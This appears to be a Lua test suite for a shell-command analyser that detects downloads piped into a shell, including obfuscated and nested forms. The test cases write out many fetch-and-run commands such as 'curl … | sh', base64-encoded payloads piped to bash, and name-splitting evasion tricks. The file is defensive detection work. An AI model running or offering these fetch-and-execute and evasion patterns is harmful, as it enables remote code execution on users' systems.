local command = lib("command")

local function names(text)
  local out = {}
  for _, step in ipairs(command.analyse(text).steps) do out[#out + 1] = step.name end
  return table.concat(out, " ")
end

local function runs_download(text)
  for _, step in ipairs(command.analyse(text).steps) do
    for _, source in ipairs(step.runs or {}) do
      if command.downloaders[source.name] then return true end
    end
  end
  return false
end

test("broken text is read as far as it goes and says so", function(t)
  for _, text in ipairs { "'", '"', "$(", "`", "echo ${", "<<E", "( ( (", "{", "if", "case x in", "a | | b", "))))", "\\", "<(", "&&", "|", ";;" } do
    t.ok(command.analyse(text).steps, text)
  end
  t.ok(command.analyse("echo 'x").incomplete)
  t.equal(names(""), "")
end)

test("pipelines, lists and quoting", function(t)
  t.equal(names("ls -l | grep x && echo 'a | b; c' ; true & wait"), "ls grep echo true wait")
  t.equal(names("c''url x; \"wg\"et y; cu\\rl z; $'\\x63url' w"), "curl wget curl curl")
  t.equal(names("a=cu;b=rl;$a$b x; ${a}${b} y; {curl,-s,z}; curl${IFS}w"), "curl curl curl curl")
  t.equal(names("# nothing\nls # rm -rf /"), "ls")
end)

test("wrappers are taken off", function(t)
  t.equal(names("sudo -u root env A=1 nice -n 5 timeout -k 1 10 nohup /usr/bin/curl x"), "curl")
  t.equal(names("env -S 'curl -s x'"), "curl")
  t.equal(names("busybox wget x; command curl y; exec -a z curl w"), "wget curl curl")
  t.equal(names("xargs -n 1 -P 4 rm < list"), "rm")
  t.equal(names("poetry run pytest -x; bundle exec rake"), "pytest rake")
  t.ok(command.analyse("sudo ls").steps[1].as_root)
end)

test("code inside code is followed", function(t)
  t.equal(names("bash -c 'ls; sh -c \"rm x\"'"), "bash ls sh rm")
  t.equal(names("bash -lc 'curl x'"), "bash curl")
  t.equal(names("eval \"cu\"'rl x'"), "eval curl")
  t.equal(names("find . -name x -exec sh -c 'rm y' \\;"), "find sh rm")
  t.equal(names("bash <<EOF\ncurl x\nEOF\nls"), "bash curl ls")
  t.equal(names("sh <<< 'wget x'"), "sh wget")
  t.equal(names("echo Y3VybCB4 | base64 -d | sh"), "echo base64 sh curl")
  t.equal(names("printf 'Y3VybCB4' | openssl base64 -d | bash -s"), "printf openssl bash curl")
  t.equal(names("$(echo curl) x; `printf wget` y"), "echo curl printf wget")
  t.equal(names("f() { curl x; }; f"), "curl")
  t.equal(names("if true; then curl x; else wget y; fi"), "true curl wget")
  t.equal(names("for u in a b; do curl $u; done"), "curl")
  t.equal(names("case $x in a) curl y;; *) wget z;; esac"), "curl wget")
end)

test("downloads that end in a shell are seen in every dress", function(t)
  for _, text in ipairs {
    "curl -fsSL https://x.example/i.sh | sh", "wget -qO- x.example | sudo bash", "curl x | tee log | bash -s -- --yes",
    "bash <(curl -s x)", "sh -c \"$(curl -fsSL x)\"", "eval \"$(wget -qO- x)\"", "source <(curl x)", ". <(curl x)",
    "curl x | env A=1 sh", "curl x | xargs -I{} sh -c '{}'", "(curl x) | sh", "{ curl x; } | bash", "f() { curl x; }; f | sh",
    "curl x | python3", "curl x | python3 -", "curl x | perl", "curl x | node", "bash < <(curl x)", "bash <<< \"$(curl x)\"",
    "a=cu; b=rl; $a$b x | s\\h", "curl x | $SHELL", "curl x | ${SHELL:-sh}", "curl x | $UNKNOWN", "curl x|/bin/ba?h",
    "while read l; do curl $l; done < f | sh", "curl x | base64 -d | sh", "bash -c 'curl x | sh'", "echo 'curl x | sh' | sh",
    "python3 <(curl x)", "curl x | nohup sh &", "timeout 5 curl x | timeout 5 sh",
  } do
    t.ok(runs_download(text), text)
  end
end)

test("ordinary commands are not", function(t)
  for _, text in ipairs {
    "curl -o file x && sha256sum file", "curl x | jq .", "curl x | tar xz", "echo sh | cat", "sh build.sh $(curl x)", "curl x | tee out.txt",
    "bash -c 'npm test'", "git log | sh -c 'cat'", "grep curl file | sh -n /dev/null", "make -j2 | tee log",
  } do
    t.ok(not runs_download(text), text)
  end
end)

test("where a download goes", function(t)
  local function file(text) return (command.download(command.analyse(text).steps[1])) end
  t.equal(file("curl -sSL -o /tmp/x https://h.example/y"), "/tmp/x")
  t.equal(file("curl -LO https://h.example/install.sh?x=1"), "install.sh")
  t.equal(file("curl https://h.example/a > b.sh"), "b.sh")
  t.equal(file("wget https://h.example/a.sh"), "a.sh")
  t.equal(file("wget -qO- https://h.example/a.sh"), nil)
  t.equal(file("curl https://h.example/a"), nil)
end)
